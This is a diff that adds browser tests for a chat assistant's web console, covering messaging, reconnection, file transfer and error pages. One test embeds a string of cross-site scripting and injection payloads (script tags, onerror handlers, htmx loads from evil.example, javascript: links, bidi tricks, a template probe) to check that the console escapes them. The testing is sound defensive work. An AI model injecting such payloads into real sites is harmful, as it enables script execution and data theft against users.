@@ -1,0 +1,175 @@
+"""Now, the chats and one message, as the owner uses them."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+
+from tests.browser.signed_in import Visit, assert_accessible
+from tests.processes.andy import AndyProcess, until
+
+HOSTILE = (
+    "<script>window.ran = 1</script>"
+    "<img src=http://evil.example/p.png onerror='window.ran = 2'>"
+    '<div hx-get="http://evil.example/x" hx-trigger="load">hx</div>'
+    '<div hx-get="/console/now" hx-trigger="load" hx-nonce="guess">own</div>'
+    "[click](javascript:window.ran=3) ![p](http://evil.example/q.png) "
+    "\u202eevil\u202c \u2066x\u2069 https://good.example@evil.example/ {{ 7 * 7 }}"
+)
+
+
+def chat_of(andy: AndyProcess, folder: str) -> str:
+    with andy.http() as http:
+        http.post("/groups", json={"folder": folder, "name": folder.title()}).raise_for_status()
+    return f"{andy.address}/console/chats/{folder}"
+
+
+def test_a_first_reply_comes_without_key_phone_and_terminal(page: Page):
+    page.get_by_role("link", name="Chats").click()
+    page.get_by_role("link", name="Main").click()
+    page.get_by_label("Write a message").fill("echo hello")
+    page.keyboard.press("Enter")
+    own = page.locator("article.own").filter(has_text="hello")
+    expect(own).to_be_visible()
+    asked = page.locator("article:not(.own)").filter(has_text="echo hello")
+    expect(asked.get_by_text("answered")).to_be_visible()
+    assert_accessible(page)
+
+    asked.get_by_role("link", name="what became of it").click()
+    way = page.locator("ol.way")
+    for step in ("Received", "Queued", "Started", "With the agent", "Answered", "Said", "Sent"):
+        expect(way.get_by_text(step, exact=True)).to_be_visible()
+    expect(page.locator(".log")).to_contain_text("turn.answered")
+    assert_accessible(page)
+
+
+def test_a_message_that_was_ignored_says_why_and_how_to_call(page: Page, andy: AndyProcess):
+    address = chat_of(andy, "lake")
+    andy.say("we need milk", group="lake", wait=0)
+    page.goto(address)
+    line = page.locator("article").filter(has_text="we need milk")
+    expect(line.get_by_text("not for Andy")).to_be_visible()
+    expect(line.get_by_text("write @Andy in the message")).to_be_visible()
+
+
+def test_new_lines_come_by_themselves_and_a_cut_loses_and_doubles_none(
+    page: Page, andy: AndyProcess, context: BrowserContext, visitor: Visit
+):
+    visitor.allowed += ["ERR_INTERNET_DISCONNECTED", "Failed to fetch", "network error"]
+    page.goto(chat_of(andy, "cut"))
+    expect(page.locator("html")).to_have_attribute("data-live", "yes")
+    andy.say("line 1", group="cut", wait=0)
+    expect(page.get_by_text("line 1", exact=True)).to_be_visible()
+
+    context.set_offline(True)
+    for number in range(2, 12):
+        andy.say(f"line {number}", group="cut", wait=0)
+    context.set_offline(False)
+
+    expect(page.locator("article")).to_have_count(11)
+    shown = page.locator("article .said").all_inner_texts()
+    assert [one.strip() for one in shown] == [f"line {number}" for number in range(1, 12)]
+
+
+def test_a_text_of_a_chat_runs_nothing_and_fetches_nothing(page: Page, andy: AndyProcess, visitor: Visit):
+    address = chat_of(andy, "bad")
+    with andy.http() as http:
+        body = {"group": "bad", "text": HOSTILE, "sender": HOSTILE[:80], "wait": 0}
+        http.post("/chat", json=body).raise_for_status()
+        http.post("/groups/bad/say", json={"text": HOSTILE}).raise_for_status()
+    until(lambda: andy.rows("SELECT 1 FROM messages WHERE is_bot_message = 1 AND content LIKE '%evil%'"))
+    before = len(visitor.requests)
+    for where in (address, f"{andy.address}/console/chats"):
+        page.goto(where)
+        expect(page.locator("html")).to_have_attribute("data-live", "yes")
+        expect(page.locator("main script, main img, main [hx-get*=evil], main iframe")).to_have_count(0)
+        assert page.evaluate("window.ran") is None
+        assert_accessible(page)
+    page.goto(address)
+    expect(page.get_by_text("{{ 7 * 7 }}").first).to_be_visible()
+    assert all(
+        link.startswith("http")
+        for link in page.eval_on_selector_all(".said a", "all => all.map(a => a.href)")
+    )
+    assert not [one for one in visitor.requests[before:] if "evil" in one]
+    # What only a store that was written by somebody else could hold is not taken for a page's own either.
+    page.evaluate(
+        """() => {
+            const box = document.createElement("div");
+            box.innerHTML = '<div id="planted" hx-get="/console/chats" hx-trigger="load"></div>';
+            document.querySelector("main").append(box);
+            htmx.process(box);
+        }"""
+    )
+    visitor.allowed.append("hx-csp")
+    assert page.evaluate("document.getElementById('planted').hasAttribute('hx-get')") is False
+
+
+def test_a_line_without_end_does_not_break_the_page(page: Page, andy: AndyProcess):
+    address = chat_of(andy, "long")
+    text = "x" * 60_000
+    with andy.http() as http:
+        sent = http.post("/chat", json={"group": "long", "text": text, "wait": 0})
+    assert sent.status_code in (200, 202), sent.text
+    page.goto(address)
+    expect(page.get_by_text("of 60,000 characters")).to_be_visible()
+    assert_accessible(page)
+    page.get_by_role("link", name="Show all").click()
+    expect(page.locator(".said").first).to_contain_text("x" * 5_000)
+    assert_accessible(page)
+
+
+def test_the_owner_speaks_as_andy(page: Page, andy: AndyProcess):
+    page.goto(chat_of(andy, "speech"))
+    page.get_by_label("Speak as").select_option("As Andy")
+    page.get_by_label("Write a message").fill("Dinner is at *seven*.")
+    page.get_by_role("button", name="Send").click()
+    own = page.locator("article.own")
+    expect(own.locator("strong").nth(1)).to_have_text("seven")
+
+
+def test_what_cannot_be_sent_is_told_and_stays_in_the_box(page: Page, andy: AndyProcess, visitor: Visit):
+    visitor.allowed.append("422")
+    visitor.allowed.append("400")
+    page.goto(chat_of(andy, "empty"))
+    page.get_by_label("Write a message").fill("  ")
+    page.get_by_role("button", name="Send").click()
+    expect(page.get_by_role("alert")).to_be_visible()
+    assert (
+        andy.rows("SELECT 1 FROM messages m JOIN chats c ON c.jid = m.chat_jid WHERE c.name = 'Empty'") == []
+    )
+
+
+def test_a_file_goes_in_and_comes_out_again(page: Page, andy: AndyProcess, tmp_path: Path):
+    note = tmp_path / "shopping list.txt"
+    note.write_text("milk")
+    page.goto(chat_of(andy, "files"))
+    page.get_by_label("Write a message").fill("here it is")
+    page.get_by_label("File").set_input_files(note)
+    page.get_by_role("button", name="Send").click()
+    link = page.get_by_role("link", name="Download")
+    expect(link).to_be_visible()
+    with page.expect_download() as downloading:
+        link.click()
+    assert Path(downloading.value.path()).read_text() == "milk"
+    assert (andy.home / "groups" / "files" / "attachments" / "shopping_list.txt").read_text() == "milk"
+
+
+@pytest.mark.parametrize(
+    "path", ["/chats/nobody", "/chats/main/messages/99999999", "/chats/main/files/x", "/chats?before=x"]
+)
+def test_what_is_not_there_is_told_in_words(visitor: Visit, path: str):
+    visitor.allowed += ["404", "400"]
+    visitor.page.goto(f"{visitor.address}/console{path}")
+    expect(visitor.page.locator("main h1")).to_be_visible()
+    assert "Traceback" not in visitor.page.content()
+
+
+def test_the_lights_of_now_have_their_fixes(page: Page):
+    expect(page.get_by_role("heading", name="Model key")).to_be_visible()
+    expect(page.get_by_text("Put ANTHROPIC_API_KEY into .env")).to_be_visible()
+    expect(page.get_by_text("nothing isolates them")).to_be_visible()
+    expect(page.get_by_text("None in the folder 'backups'.")).to_be_visible()
+    assert_accessible(page)
